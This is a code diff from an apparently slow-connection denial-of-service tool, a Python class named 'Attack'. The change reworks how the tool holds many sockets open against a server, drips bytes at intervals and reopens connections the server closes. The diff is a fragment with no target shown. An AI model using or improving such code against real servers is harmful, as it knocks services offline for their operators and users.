@@ -79,14 +79,14 @@ class Attack:
 
     def _run(self) -> None:
         selector = selectors.DefaultSelector()
+        for sock in self._sockets:
+            selector.register(sock, selectors.EVENT_READ)
         next_byte = time.monotonic() + self.interval
         while not self._stop.is_set():
+            ready = [key.fileobj for key, _ in selector.select(timeout=0.1)]
             with self._lock:
-                for sock in self._sockets:
-                    selector.register(sock, selectors.EVENT_READ)
-                ready = [key.fileobj for key, _ in selector.select(timeout=0.1)]
-                for sock in self._sockets:
-                    selector.unregister(sock)
+                if self._stop.is_set():
+                    break
                 closed = {s for s in ready if isinstance(s, socket.socket) and _closed(s)}
                 if time.monotonic() >= next_byte:
                     next_byte += self.interval
@@ -98,11 +98,13 @@ class Attack:
                                 closed.add(sock)
                 for sock in closed:
                     self.closed_by_server += 1
+                    selector.unregister(sock)
                     self._sockets.remove(sock)
                     sock.close()
                     replacement = self._open() if self.reconnect else None
                     if replacement is not None:
                         self._sockets.append(replacement)
+                        selector.register(replacement, selectors.EVENT_READ)
         selector.close()
 
     def stop(self) -> None:
